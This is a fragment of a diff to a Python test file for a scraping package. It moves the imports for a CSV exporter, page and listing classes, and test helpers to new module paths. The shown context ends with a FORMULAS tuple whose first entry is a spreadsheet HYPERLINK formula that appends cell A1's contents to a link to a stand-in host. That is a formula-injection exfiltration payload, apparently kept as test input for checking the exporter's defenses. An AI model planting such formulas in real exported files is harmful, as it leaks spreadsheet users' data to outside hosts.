@@ -10,13 +10,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sc_spiders.exporters import CsvPageExporter
-from sc_spiders.listing import Listing
-from sc_spiders.page import Page
-
-from ..crawling import Crawls
-from ..dataset import make
-from ..faults.server import Server, http, user
+from sc_spiders.feeds.formats import CsvPageExporter
+from sc_spiders.pages.listing import Listing
+from sc_spiders.pages.page import Page
+from tests.crawling import Crawls
+from tests.dataset import make
+from tests.faults.server import Server, http, user
 
 FORMULAS = (
     '=HYPERLINK("https://example.org/?"&A1;"more")',
